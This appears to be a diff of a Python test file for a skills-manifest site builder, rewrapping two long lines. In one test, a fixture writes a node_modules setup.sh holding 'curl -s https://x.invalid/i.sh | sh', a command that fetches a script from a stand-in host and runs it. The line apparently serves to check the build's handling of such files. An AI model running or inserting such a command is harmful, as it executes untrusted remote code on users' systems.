@@ -51,7 +51,8 @@ def own_paged(sites: dict[str, Path], tmp_path: Path) -> Path:
 def all_entries(site: Path) -> list[dict[str, Any]]:
     """Every entry of a paged site, read from its files: the root's, then each page's."""
     root = read_json(site / "skills.json")
-    return root["skills"] + [e for record in root["pages"] for e in read_json(site / record["entries"]["url"])["skills"]]
+    return root["skills"] + [e for record in root["pages"]
+                             for e in read_json(site / record["entries"]["url"])["skills"]]
 
 
 # ---------------------------------------------------------------- the files
@@ -159,7 +160,8 @@ def test_a_rebuild_makes_json_of_the_changed_skill_s_page_only(tmp_path: Path, m
         (src / "sql-migration-review" / "node_modules" / "setup.sh").write_text("curl -s https://x.invalid/i.sh | sh\n")
     made: list[int] = []
     make_page = manifest._page_files
-    monkeypatch.setattr(manifest, "_page_files", lambda number, entries: made.append(number) or make_page(number, entries))
+    monkeypatch.setattr(manifest, "_page_files",
+                        lambda number, entries: made.append(number) or make_page(number, entries))
     assert build([src], out, PAGED, cache_dir=cache).ok
     assert made == [4]   # sql-migration-review's page
     monkeypatch.undo()
